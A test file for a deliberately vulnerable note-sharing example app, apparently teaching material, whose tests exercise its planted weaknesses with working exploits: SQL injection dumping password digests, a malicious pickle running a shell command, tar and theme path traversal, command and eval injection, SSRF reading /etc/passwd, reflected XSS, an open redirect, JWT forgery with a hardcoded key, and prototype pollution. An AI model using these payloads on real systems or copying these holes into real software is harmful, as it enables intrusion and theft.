/** The example is a program that runs, and its weaknesses are real: a few are exploited. */
import { execFileSync } from "node:child_process";
import { createHmac } from "node:crypto";
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { EXAMPLE, startShareling } from "./shareling.ts";

let shareling: Awaited<ReturnType<typeof startShareling>>;

beforeAll(async () => {
  shareling = await startShareling();
});
afterAll(() => shareling?.[Symbol.asyncDispose]());

async function api(method: string, route: string, body?: unknown) {
  const init = body === undefined ? { method } : { method, body: JSON.stringify(body) };
  const response = await fetch(shareling.api + route, init);
  return { status: response.status, value: (await response.json()) as Record<string, never> };
}

function web(route: string, init?: RequestInit): Promise<Response> {
  return fetch(shareling.web + route, { redirect: "manual", ...init });
}

async function write(title: string, text: string, owner = 1): Promise<void> {
  expect((await api("POST", "/notes", { owner, title, text })).status).toBe(200);
}

/** A pickle of the call `callable(argument)`, as an attacker makes one. */
function pickleOf(callable: string, argument: string): string {
  const program =
    "import base64, os, pickle, sys\n" +
    "class Call:\n    def __reduce__(self): return eval(sys.argv[1]), (sys.argv[2],)\n" +
    "print(base64.b64encode(pickle.dumps(Call())).decode())";
  return execFileSync("python3", ["-c", program, callable, argument], { encoding: "utf8" }).trim();
}

/** A tar archive with one file of the given name, in base64. */
function tarOf(name: string, content: string): string {
  const program =
    "import base64, io, sys, tarfile\n" +
    "out, data = io.BytesIO(), sys.argv[2].encode()\n" +
    "with tarfile.open(fileobj=out, mode='w') as tar:\n" +
    "    entry = tarfile.TarInfo(sys.argv[1]); entry.size = len(data); tar.addfile(entry, io.BytesIO(data))\n" +
    "print(base64.b64encode(out.getvalue()).decode())";
  return execFileSync("python3", ["-c", program, name, content], { encoding: "utf8" }).trim();
}

test("a note goes from a person through the API to the page", async () => {
  const registered = await api("POST", "/users", { name: "ada", password: "analytical" });
  expect(registered.status).toBe(200);
  expect((await api("POST", "/login", { name: "ada", password: "wrong" })).status).toBe(400);
  expect((await api("POST", "/login", { name: "ada", password: "analytical" })).value["token"]).toMatch(/^[\w-]{32}$/);
  await write("engine", "<b>difference</b>", 4711);
  const page = await (await web("/note?owner=4711&q=diff")).text();
  expect(page).toContain("<li><b>engine</b> &lt;b&gt;difference&lt;/b&gt;</li>");
  expect(await (await web("/theme?name=light.css")).text()).toContain("font:");
  expect(await (await web("/client.js")).text()).not.toContain("interface Found");
});

test("a note list is exported and restored", async () => {
  await write("kept", "text", 99);
  const { value } = await api("GET", "/notes/export?owner=99");
  expect((await api("POST", "/notes/import", { owner: 100, archive: value["archive"] })).value["imported"]).toBe(1);
  const feed = "<rss><item><title>news</title></item></rss>";
  expect((await api("POST", "/notes/feed", { owner: 100, feed })).value["imported"]).toBe(1);
  expect((await api("GET", "/notes?owner=100")).value["notes"]).toHaveLength(2);
});

test("CWE-89: a search of the API reads every password digest", async () => {
  await api("POST", "/users", { name: "grace", password: "hopper" });
  const injection = encodeURIComponent("' union select id, name, digest from users --");
  const { value } = await api("GET", `/notes?owner=0&q=${injection}`);
  expect(value["notes"]).toContainEqual(
    expect.objectContaining({ title: "grace", text: expect.stringMatching(/^[\da-f]{32}$/) }),
  );
});

test("CWE-502: a pickle that is imported runs a command", async () => {
  const mark = path.join(shareling.data, "pickled");
  await api("POST", "/notes/import", { owner: 1, archive: pickleOf("os.system", `touch ${mark}`) });
  expect(existsSync(mark)).toBe(true);
});

test("CWE-22: an archive writes outside of the attachments", async () => {
  await api("POST", "/attachments", { archive: tarOf("../escaped.txt", "out") });
  expect(readFileSync(path.join(shareling.data, "escaped.txt"), "utf8")).toBe("out");
});

test("CWE-78: an attachment's name runs a command, in the API and in the front", async () => {
  const { value } = await api("GET", `/attachments/size?name=${encodeURIComponent("/dev/null; echo $((6*7))")}`);
  expect(value["size"]).toMatch(/\n42$/);
  expect(await (await web(`/image?name=${encodeURIComponent('/dev/null"; echo "$((6*7))')}`)).text()).toMatch(/\n42$/);
});

test("CWE-95: a formula and a sort key are programs", async () => {
  const formula = encodeURIComponent("__import__('os').getpid()");
  expect((await api("GET", `/sum?formula=${formula}`)).value["value"]).toBeGreaterThan(1);
  const sort = encodeURIComponent("(() => { throw 'pid ' + process.pid })()");
  expect(await (await web(`/drafts?author=x&sort=${sort}`)).text()).toMatch(/^pid \d+$/);
});

test("CWE-918: the server fetches its own files and its neighbours", async () => {
  const fetched = await api("POST", "/attachments/fetch", { url: "file:///etc/passwd", name: "stolen" });
  expect(fetched.status).toBe(200);
  expect(readFileSync(path.join(shareling.data, "attachments/stolen"), "utf8")).toContain("root:");
  const neighbour = encodeURIComponent(`${shareling.api}/sum?formula=6*7`);
  expect(await (await web(`/card?url=${neighbour}`)).text()).toBe('{"value": 42}');
});

test("CWE-22: a theme is any file", async () => {
  expect(await (await web("/theme?name=../../sessions.ts")).text()).toContain("JSON web tokens");
});

test("CWE-79 and CWE-601: a search reflects a script, a login leads away", async () => {
  expect(await (await web("/search?q=<script>alert(1)</script>")).text()).toContain("<script>alert(1)</script>");
  const response = await web("/login?next=https://evil.example/", { method: "POST", body: '{"name":"ada"}' });
  expect(response.headers.get("location")).toBe("https://evil.example/");
});

/** A session cookie as the front makes it, with the key that stands in its source. */
function forgedSession(name: string): string {
  const parts = [{ alg: "HS256", typ: "JWT" }, { name }];
  const content = parts.map((part) => Buffer.from(JSON.stringify(part)).toString("base64url")).join(".");
  const source = readFileSync(path.join(EXAMPLE, "web/sessions.ts"), "utf8");
  const key = /sessionSecret = "([^"]+)"/.exec(source)![1]!;
  return `session=${content}.${createHmac("sha256", key).update(content).digest("base64url")}`;
}

async function me(cookie: string): Promise<unknown> {
  return (await web("/me", { headers: { cookie } })).json();
}

test("CWE-798: who has read the source is whoever they like", async () => {
  expect(await me(forgedSession("admin"))).toMatchObject({ user: "admin" });
  expect(await me(`${forgedSession("admin")}x`)).toMatchObject({ user: "nobody" });
});

async function save(name: string, body: string): Promise<unknown> {
  return (await web("/preferences", { method: "POST", body, headers: { cookie: forgedSession(name) } })).json();
}

test("CWE-1321: a preference of one person becomes everybody's", async () => {
  expect(await save("ada", '{"theme":"dark"}')).toEqual({ theme: "dark" });
  await save("ada", '{"__proto__":{"moderator":true}}');
  expect(await save("newcomer", "{}")).toEqual({ moderator: true });
});
